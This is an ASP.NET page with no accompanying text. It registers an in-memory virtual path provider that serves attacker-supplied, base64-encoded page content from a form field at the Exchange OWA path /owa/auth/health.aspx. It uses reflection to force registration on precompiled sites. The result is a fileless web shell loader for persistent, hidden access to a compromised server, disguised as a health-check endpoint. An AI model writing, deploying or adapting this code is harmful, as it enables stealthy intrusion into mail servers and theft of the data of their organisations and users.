<%@ Page Language="C#" %>
<%@ Import Namespace="System.Web.Hosting" %>
<%@ Import Namespace="System.Reflection" %>
<script runat="server">
    public class MemFile : VirtualFile
    {
        string body;
        public MemFile(string p, string b) : base(p) { body = b; }
        public override System.IO.Stream Open() { return new System.IO.MemoryStream(System.Text.Encoding.UTF8.GetBytes(body)); }
    }
    public class MemProvider : VirtualPathProvider
    {
        string route, body;
        public MemProvider(string r, string b) { route = r; body = b; }
        public override bool FileExists(string p) { return p.EndsWith(route) || Previous.FileExists(p); }
        public override VirtualFile GetFile(string p) { return p.EndsWith(route) ? new MemFile(p, body) : Previous.GetFile(p); }
    }
    protected void Page_Load(object sender, EventArgs e)
    {
        // force registration in a precompiled site
        FieldInfo f = typeof(HostingEnvironment).GetField("_theHostingEnvironment", BindingFlags.NonPublic | BindingFlags.Static);
        object env = f.GetValue(null);
        string page = System.Text.Encoding.UTF8.GetString(Convert.FromBase64String(Request.Form["pg"]));
        HostingEnvironment.RegisterVirtualPathProvider(new MemProvider("/owa/auth/health.aspx", page));
        Response.Write(env != null ? "ok" : "?");
    }
</script>
